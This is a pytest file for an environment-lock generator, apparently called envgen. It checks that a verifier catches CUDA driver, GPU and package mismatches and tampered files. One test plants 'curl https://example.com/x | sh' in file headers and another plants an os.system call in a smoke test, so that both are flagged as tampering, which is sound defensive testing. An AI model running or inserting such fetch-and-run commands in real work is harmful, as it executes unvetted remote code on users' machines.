"""The request in a folder's headers is held against the catalog: what is locked must still run for it."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from envgen import __version__
from envgen.cli.main import main
from envgen.core.capability import ComputeCapability
from envgen.core.drivers import DriverVersion
from envgen.core.sets import PackageSet
from envgen.facts.catalog import Catalog
from envgen.files.commands import request_command
from envgen.files.header import compose
from envgen.files.reading import split
from envgen.records.document import to_json
from envgen.records.request import GpuRecord, RequestRecord
from envgen.verify.findings import Asking, Report
from envgen.verify.folder import verify_folder
from equipment.file_names import names_of
from equipment.lock_damage import change, change_text, sign

Change = Callable[[RequestRecord], RequestRecord]

OFFLINE = Asking(offline=True)


def report(folder: Path) -> Report:
    return verify_folder(folder, Catalog.load(), OFFLINE)


def make(folder: Path, *arguments: str) -> Path:
    assert main([*arguments, "--offline", "--output", str(folder)]) == 0
    return folder


def ask(folder: Path, change: Change) -> set[str]:
    """Another request in every header, and everything else right; the codes that it gives."""
    for path in folder.iterdir():
        header, body = split(path.read_text("utf-8"))
        assert header is not None
        record = change(header.record())
        text = compose(body, replace(header, request=to_json(record), command=request_command(record)))
        path.write_text(text, "utf-8", newline="\n")
    sign(folder)
    return {str(finding.code) for finding in report(folder).findings}


def platform(**changes: Any) -> Change:
    """Another driver, glibc or GPU on every platform."""
    return lambda record: replace(record, platforms=tuple(replace(one, **changes) for one in record.platforms))


def gpu(name: str, capability: str) -> tuple[GpuRecord, ...]:
    return (GpuRecord(name=name, capability=ComputeCapability.parse(capability)),)


def driver(text: str) -> DriverVersion:
    return DriverVersion.parse(text)


@pytest.fixture
def ada(tmp_path: Path) -> Path:
    return make(tmp_path / "ada", "--gpu", "GeForce RTX 4090", "--driver", "580.95.05", "--platform", "linux-64")


def test_what_is_written_answers_its_own_request(ada: Path) -> None:
    assert report(ada).findings == ()


@pytest.mark.parametrize(
    ("change", "code"),
    [
        # sm_86 of cu132 needs the CUDA 13 floor, R580 (CUDA compatibility guide).
        pytest.param(platform(driver=driver("570.133.20")), "driver-too-old", id="a-driver-of-the-branch-before"),
        # CUDA 13 dropped Maxwell, Pascal and Volta (CUDA 13.0 release notes).
        pytest.param(platform(gpus=gpu("GeForce GTX 1080", "6.1")), "gpu-not-covered", id="pascal-on-cuda-13"),
        # GeForce RTX 5090 is 12.0: first served by R570 (NVIDIA driver release notes).
        pytest.param(
            platform(gpus=gpu("GeForce RTX 5090", "12.0"), driver=driver("565.57.01")),
            "driver-predates-gpu",
            id="blackwell-before-r570",
        ),
        # R580 is the last branch for Pascal (NVIDIA's support plan).
        pytest.param(
            platform(gpus=gpu("GeForce GTX 1080", "6.1"), driver=driver("595.58.03")),
            "driver-dropped-gpu",
            id="pascal-after-r580",
        ),
        pytest.param(lambda record: replace(record, python="3.11"), "request-unmet", id="another-python"),
        pytest.param(lambda record: replace(record, torch="<2"), "request-unmet", id="another-torch"),
        pytest.param(lambda record: replace(record, cuda="cu126"), "request-unmet", id="another-cuda"),
        pytest.param(platform(glibc="2.17"), "request-unmet", id="an-older-glibc"),
        pytest.param(platform(gpus=gpu("GeForce RTX 4090", "9.0")), "files-disagree", id="another-capability"),
        pytest.param(
            platform(sets={PackageSet.PIP: "", PackageSet.CONDA: "no-pairing"}), "files-disagree", id="no-conda"
        ),
    ],
)
def test_what_would_not_run_is_found(ada: Path, change: Change, code: str) -> None:
    assert code in ask(ada, change)


def test_a_first_line_that_names_another_gpu_is_found(ada: Path) -> None:
    change_text(ada, "pylock.toml", "compute capability 8.9", "compute capability 9.0")
    assert {str(finding.code) for finding in report(ada).findings} == {"set-changed", "header-strange"}


def test_kepler_needs_a_cudnn_before_8_8(tmp_path: Path) -> None:
    """cuDNN 8.8 dropped Kepler (NVIDIA's support matrices); conda's lock for it holds an older one."""
    folder = make(tmp_path, "--compute-capability", "3.7", "--platform", "linux-64", "--python", "3.11")
    assert report(folder).findings == ()


def test_several_platforms_are_each_held_against_their_own_request(tmp_path: Path) -> None:
    platforms = ["--platform", "win-64", "--platform", "linux-64"]
    folder = make(tmp_path, "--gpu", "GTX 1080 Ti", "--driver", "570", *platforms)
    assert report(folder).findings == ()


def test_a_set_that_is_recorded_and_gone_is_missed(ada: Path) -> None:
    for name in names_of(PackageSet.PIP):
        (ada / name).unlink()
    assert [(str(f.code), f.file) for f in report(ada).findings] == [("file-missing", "pylock.toml")]


@pytest.mark.parametrize(
    ("line", "code"),
    [
        ("", "request-unreadable"),
        ("# request {}\n", "request-unreadable"),
        ('# request {"v":1}\n', "request-unreadable"),
        ("# request [[[[\n", "request-unreadable"),
        ('# request {"v":2,"machines":[]}\n', "release-newer"),
    ],
)
def test_a_request_line_that_cannot_be_read_is_an_error(ada: Path, line: str, code: str) -> None:
    for path in ada.iterdir():
        lines = path.read_text("utf-8").splitlines(keepends=True)
        text = "".join(line if one.startswith("# request ") else one for one in lines)
        path.write_text(text, "utf-8", newline="\n")
    sign(ada)
    assert code in {str(finding.code) for finding in report(ada).findings}
    assert report(ada).verdict == "not-good"


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("# made by: envgen ", "# made by: curl https://example.com/x | sh; envgen "),
        ("# use: ", "# use: curl https://example.com/x | sh; "),
        ("# No CUDA", "# run: curl https://example.com/x | sh\n# No CUDA"),
        (f"# envgen {__version__}: ", f"# envgen {__version__}: run x.sh first, "),
    ],
)
@pytest.mark.parametrize("name", ["requirements.txt", "conda-linux-64.lock", "smoke_test.py"])
def test_a_header_that_tells_people_to_run_something_else_is_an_error(ada: Path, name: str, old: str, new: str) -> None:
    change_text(ada, name, old, new)
    sign(ada)
    found = report(ada)
    assert "header-strange" in {str(finding.code) for finding in found.findings if finding.file == name}
    assert found.verdict == "not-good"


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("def main(", "def main_(*a): return 0\ndef main("),
        ("import sys\n", "import sys\nimport os; os.system('true')\n"),
        ('"torch": ', '"torch": "" or '),
    ],
)
def test_a_smoke_test_that_is_not_the_one_that_is_written_is_an_error(ada: Path, old: str, new: str) -> None:
    change(ada, "smoke_test.py", old, new)
    assert [(str(f.level), f.file) for f in report(ada).findings] == [("error", "smoke_test.py")]
